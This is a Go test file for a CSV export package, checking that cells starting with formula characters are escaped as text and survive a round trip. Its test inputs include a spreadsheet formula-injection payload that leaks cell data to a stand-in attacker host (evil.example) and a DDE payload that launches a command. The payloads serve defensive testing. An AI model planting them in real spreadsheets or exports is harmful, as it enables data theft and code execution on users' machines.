package csvbook

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"bob/model"
)

// TestExportNeverWritesAFormula: a value that a spreadsheet would run as a
// formula (a name from a bundle, a phone number) is written as text, and
// the file imports back unchanged.
func TestExportNeverWritesAFormula(t *testing.T) {
	st, _ := openBook(t)
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"}
	for _, name := range hostile {
		a, err := st.PutAccount(model.Account{Name: name, Custom: map[string]string{"=note": "=1+1"}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := st.PutPerson(model.Person{AccountID: a.ID, Name: "Pat " + name[1:], Phone: "+44 20 7946 0000"}); err != nil {
			t.Fatal(err)
		}
	}
	for _, k := range []Kind{Accounts, People} {
		var out bytes.Buffer
		if err := Export(&out, st, k); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsAny(cell[:1], formulaStarts) {
					t.Errorf("%s: cell %q would run as a formula", k, cell)
				}
			}
		}
		tbl, err := Read(bytes.NewReader(out.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		p, err := Prepare(st, tbl, Options{Kind: k, Update: true})
		if err != nil {
			t.Fatal(err)
		}
		if _, updated, unchanged, bad := p.Counts(); updated != 0 || bad != 0 || unchanged != len(tbl.Rows) {
			t.Errorf("%s round trip: %s; bad %+v; updates %v", k, p.Summary(), p.Bad, changed(p))
		}
	}
}

func TestTextCell(t *testing.T) {
	for _, tc := range []struct{ in, out string }{
		{"Acme", "Acme"}, {"", ""}, {"=1+1", "'=1+1"}, {"+44 20", "'+44 20"}, {"-5", "'-5"}, {"@x", "'@x"},
		{"\tx", "'\tx"}, {"'quoted'", "'quoted'"}, {"O'Brien", "O'Brien"},
	} {
		if got := textCell(tc.in); got != tc.out {
			t.Errorf("textCell(%q) = %q, want %q", tc.in, got, tc.out)
		}
		if got := plainCell(textCell(tc.in)); got != tc.in {
			t.Errorf("plainCell(textCell(%q)) = %q", tc.in, got)
		}
	}
}
